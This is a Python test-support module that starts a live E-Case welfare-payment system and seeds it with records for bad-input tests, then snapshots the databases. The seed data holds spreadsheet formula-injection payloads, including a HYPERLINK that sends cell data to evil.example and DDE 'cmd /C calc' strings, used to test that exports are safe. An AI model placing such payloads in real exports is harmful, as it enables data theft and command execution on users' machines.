"""A live E-Case on PostgreSQL + Redis for the bad-input tests (reliability.md S4, S6, S7).

Every process of deploy/Procfile runs for real (gunicorn web processes, Celery workers, outbox
relays) on throwaway PostgreSQL databases and a private Redis key prefix.  The demo users and the
reference data are loaded, then :func:`seed_world` builds, through the gateway's JSON API with
real tokens, the objects the malformed requests aim at: recorded cases (some named like
spreadsheet formulas, for the S7 export checks), a document, a home visit, a meeting, an approved
batch, its payout batch with a KTB file made, and a result import.

:func:`snapshot` reads every table of every service database (row count and a checksum of each
row's content) and the intake document store, so a test can show that a whole corpus of bad
requests changed nothing.
"""

from __future__ import annotations

import datetime as dt
import hashlib
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import requests
from sqlalchemy import create_engine, text
from sqlalchemy.pool import NullPool

from shared.config import SERVICES
from shared.testing.system import System, wait_for
from tests.intake.support import PDF, case_body, house_id

PASSWORD = "ecase-demo-2566"
PROCESSES = (
    "gateway",
    "intake",
    "approval",
    "payment",
    "reporting",
    "intake-worker",
    "approval-worker",
    "payment-worker",
    "reporting-worker",
    "intake-relay",
    "approval-relay",
    "payment-relay",
    "reporting-relay",
)
ENV = {
    "ECASE_PAYMENT_KTB_COMPANY_ID": "TESTCO0001",
    "ECASE_PAYMENT_KTB_DEBIT_ACCOUNT": "1234567890",
    "ECASE_PAYMENT_KTB_SENDER_NAME": "WELFARE FUND TEST",
    "ECASE_RETRY_BACKOFF_MAX": "1",
    "ECASE_LOGIN_MAX_FAILURES": "100000",
    "ECASE_WORKER_CONCURRENCY": "1",
}
USERS = (
    "officer.1008",
    "head.1008",
    "finance.1008",
    "officer.1001",
    "finance.1001",
    "central.admin",
    "operator",
)
# Names that a spreadsheet would read as formulas (S7): accepted by intake (a name may start with
# any printable character), they reach every export.  ASCII only in the account name, so that
# KTB's file rules (printable ASCII and Thai) let it into the payment file as well.
FORMULA_NAMES = (
    '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")',
    "+66-2-123-4567",
    "-1+1",
    "@SUM(A1:A9)",
)
FORMULA_ACCOUNT_NAME = '=HYPERLINK("http://evil.example","pay")'


def today() -> dt.date:
    return dt.datetime.now(ZoneInfo("Asia/Bangkok")).date()


def start_live(workdir: Path) -> System:
    """Migrate, seed the demo users and reference data, start all 13 processes, wait until ready."""
    from services.gateway.demo import load_demo_users

    system = System(workdir, backend="postgres", extra_env=ENV)
    try:
        system.migrate()
        with system.sessions("gateway", write=True).begin() as s:
            load_demo_users(s)
        with system.environment():
            from services.intake.reference import load_reference_data

            with system.sessions("intake", write=True).begin() as s:
                load_reference_data(s)
        system.start(*PROCESSES)
        for svc in ("gateway", "intake", "approval", "payment", "reporting"):
            system.wait_healthy(svc, timeout=90)
        for svc in ("intake", "approval", "payment", "reporting"):
            system.wait_worker(svc, timeout=90)
    except BaseException:
        system.close()
        raise
    return system


class Client:
    """One demo user on the gateway's JSON API with a real bearer token."""

    def __init__(self, base_url: str, username: str) -> None:
        self.base_url = base_url
        self.username = username
        r = requests.post(
            f"{base_url}/api/auth/token", json={"username": username, "password": PASSWORD}, timeout=30
        )
        assert r.status_code == 200, r.text
        self.token = r.json()["access_token"]
        self.headers = {"Authorization": f"Bearer {self.token}"}

    def call(self, method: str, path: str, **kwargs: Any) -> requests.Response:
        headers = {**self.headers, **kwargs.pop("headers", {})}
        return requests.request(method, f"{self.base_url}{path}", headers=headers, timeout=120, **kwargs)

    def ok(self, method: str, path: str, status: int = 200, **kwargs: Any) -> Any:
        r = self.call(method, path, **kwargs)
        assert r.status_code == status, f"{method} {path}: {r.status_code} {r.text[:500]}"
        return r.json() if r.headers.get("Content-Type", "").startswith("application/json") else r

    def get(self, path: str, **kwargs: Any) -> Any:
        return self.ok("GET", path, **kwargs)


@dataclass
class World:
    """The objects the corpus aims at (ids), and the clients of each demo user."""

    system: System
    clients: dict[str, Client]
    ids: dict[str, Any] = field(default_factory=dict)

    @property
    def base_url(self) -> str:
        return self.system.url("gateway")

    def client(self, username: str) -> Client:
        return self.clients[username]


def _job_done(client: Client, job_id: str) -> dict[str, Any]:
    return wait_for(
        lambda: (j := client.get(f"/api/jobs/{job_id}"))["status"] in ("done", "failed") and j,
        timeout=120,
        interval=0.3,
        what=f"job {job_id}",
    )


def seed_world(system: System) -> World:
    """Build the objects of the corpus through the gateway, as the demo users would."""
    base = system.url("gateway")
    clients = {u: Client(base, u) for u in USERS}
    world = World(system, clients)
    officer, head, finance = clients["officer.1008"], clients["head.1008"], clients["finance.1008"]

    # Cases for the batch: one per formula-like name; the first also has a formula-like account name.
    approved = []
    for i, name in enumerate(FORMULA_NAMES):
        bank = {
            "bank_code": "006" if i % 2 == 0 else "014",
            "account_name": FORMULA_ACCOUNT_NAME if i == 0 else f"นายทดสอบ สูตร{i}",
            "account_no": f"{1234567890 + i:010d}",
        }
        body = case_body(
            first_name=name,
            last_name="-ใจดี" if i == 1 else "ใจดี",
            welfare_type_code="MEDICAL",
            amount=f"{1000 + i}.00",
            hardship="=cmd|' /C calc'!A0 ผู้ป่วยติดเตียง",
            bank=bank,
        )
        approved.append(officer.ok("POST", "/api/intake/cases", 201, json=body))
    wait_for(
        lambda: head.get("/api/approval/agenda")["count"] == len(approved),
        timeout=90,
        interval=0.3,
        what="the agenda",
    )
    meeting = head.ok(
        "POST",
        "/api/approval/meetings",
        201,
        json={"meeting_date": today().isoformat(), "number": "1/2568", "attendees": ["ประธาน"], "notes": ""},
    )
    closing = head.ok(
        "POST",
        "/api/approval/batches",
        202,
        json={"meeting_date": today().isoformat(), "meeting_id": meeting["id"]},
    )
    job = _job_done(head, closing["job_id"])
    assert job["status"] == "done", job

    def payout_batch() -> dict[str, Any] | None:
        items = finance.get("/api/payment/batches")["items"]
        return next((b for b in items if b["approval_batch_id"] == str(closing["batch_id"])), None)

    payout = wait_for(payout_batch, timeout=120, interval=0.3, what="the payout batch")
    lines = finance.get(f"/api/payment/batches/{payout['id']}")["lines"]

    # A KTB file for the other-bank group (made once: later downloads give the same bytes).
    r = finance.call("GET", f"/api/payment/batches/{payout['id']}/files/other.txt")
    assert r.status_code == 200, r.text
    file_id = finance.get(f"/api/payment/batches/{payout['id']}/files")[0]["id"]

    # An open case that stays on the agenda (PATCH, documents, home visit, approval decisions).
    open_case = officer.ok(
        "POST",
        "/api/intake/cases",
        201,
        json=case_body(
            first_name="@SUM(1+1)*cmd|' /C calc'!A0",
            last_name="เปิดอยู่",
            house_id=house_id(),
            welfare_type_code="MEDICAL",
            amount="2000.00",
        ),
    )
    officer.ok(
        "POST",
        f"/api/intake/cases/{open_case['id']}/documents",
        201,
        files={"file": ("id-card.pdf", PDF, "application/pdf")},
        data={"kind": "related"},
    )
    officer.ok(
        "POST",
        f"/api/intake/cases/{open_case['id']}/home-visit",
        201,
        json={"visited_on": today().isoformat(), "findings": "บ้านไม้ชั้นเดียว สภาพทรุดโทรม"},
    )
    wait_for(
        lambda: any(i["case_id"] == open_case["id"] for i in head.get("/api/approval/agenda")["items"]),
        timeout=90,
        interval=0.3,
        what="the open case on the agenda",
    )
    other = clients["officer.1001"].ok(
        "POST", "/api/intake/cases", 201, json=case_body(first_name="เขตอื่น", amount="1500.00")
    )
    world.ids.update(
        case_id=open_case["id"],
        national_id=None,
        approved_case_ids=[c["id"] for c in approved],
        other_district_case_id=other["id"],
        meeting_id=meeting["id"],
        approval_batch_id=closing["batch_id"],
        payout_batch_id=payout["id"],
        line_id=lines[0]["id"],
        line_ids=[line["id"] for line in lines],
        file_id=file_id,
        job_id=closing["job_id"],
    )
    # reporting knows the batch once its events arrive (its documents are asked for by the corpus)
    wait_for(
        lambda: any(
            str(b.get("id")) == str(closing["batch_id"])
            for b in finance.get("/api/reporting/batches")["items"]
        ),
        timeout=120,
        interval=0.3,
        what="reporting's copy of the batch",
    )
    return world


# --- database snapshot ---------------------------------------------------------------------------
#: Rows that change by themselves or are expected records of refused attempts (reliability.md
#: "Bad input" lists them): table -> SQL condition of the rows to leave out.
EXCLUDED: dict[str, str] = {
    "worker_heartbeats": "TRUE",  # each worker writes its heartbeat every 5 s
    "audit_log": "action = 'auth.login_failed'",  # a refused login is audited on purpose (S9)
    "audit_chain_head": "TRUE",  # moves with the rows above; audit_log itself is compared
}


@dataclass(frozen=True)
class Snapshot:
    """Per service and table: a multiset of row checksums; plus the document store's files."""

    tables: dict[str, dict[str, Counter[str]]]
    files: dict[str, str]

    def counts(self) -> dict[str, dict[str, int]]:
        return {svc: {t: sum(c.values()) for t, c in tables.items()} for svc, tables in self.tables.items()}

    def diff(self, other: Snapshot) -> list[str]:
        """What differs, one line per table or file (empty when nothing changed)."""
        out = []
        for svc in sorted(set(self.tables) | set(other.tables)):
            a, b = self.tables.get(svc, {}), other.tables.get(svc, {})
            for table in sorted(set(a) | set(b)):
                before, after = a.get(table, Counter()), b.get(table, Counter())
                if before != after:
                    added = sum((after - before).values())
                    removed = sum((before - after).values())
                    out.append(
                        f"{svc}.{table}: {added} row(s) added or changed, {removed} removed or changed"
                    )
        for path in sorted(set(self.files) | set(other.files)):
            if self.files.get(path) != other.files.get(path):
                out.append(f"file {path}: {self.files.get(path)} -> {other.files.get(path)}")
        return out


def snapshot(system: System, excluded: dict[str, str] | None = None) -> Snapshot:
    """Every table of every service database, and every file under the data folder's documents."""
    excluded = EXCLUDED if excluded is None else excluded
    tables: dict[str, dict[str, Counter[str]]] = {}
    for svc in SERVICES:
        engine = create_engine(system.database_url(svc), poolclass=NullPool)
        try:
            with engine.connect() as conn:
                names = conn.scalars(
                    text(
                        "SELECT table_name FROM information_schema.tables"
                        " WHERE table_schema = 'public' AND table_type = 'BASE TABLE' ORDER BY 1"
                    )
                ).all()
                tables[svc] = {}
                for name in names:
                    condition = excluded.get(name)
                    where = f" WHERE NOT ({condition})" if condition else ""
                    rows = conn.scalars(text(f'SELECT md5(t::text) FROM "{name}" t{where}')).all()
                    tables[svc][name] = Counter(rows)
        finally:
            engine.dispose()
    files = {}
    root = system.data_dir
    for path in sorted(root.rglob("*")):
        if path.is_file() and "broker" not in path.parts:
            files[str(path.relative_to(root))] = hashlib.sha256(path.read_bytes()).hexdigest()
    return Snapshot(tables, files)


def unsent_outbox(system: System) -> int:
    """Outbox rows not yet published, over every service."""
    total = 0
    for svc in ("intake", "approval", "payment", "reporting"):
        engine = create_engine(system.database_url(svc), poolclass=NullPool)
        try:
            with engine.connect() as conn:
                total += (
                    conn.scalar(text("SELECT count(*) FROM outbox_messages WHERE published_at IS NULL")) or 0
                )
        finally:
            engine.dispose()
    return total


def quiet_snapshot(system: System, timeout: float = 90) -> Snapshot:
    """A snapshot once the system has settled: nothing left to publish and two equal reads 1 s apart."""
    import time

    deadline = time.monotonic() + timeout
    last = snapshot(system)
    while time.monotonic() < deadline:
        time.sleep(1)
        current = snapshot(system)
        if current.diff(last) == [] and unsent_outbox(system) == 0:
            return current
        last = current
    raise TimeoutError(f"the system did not settle within {timeout}s: {last.diff(snapshot(system))}")
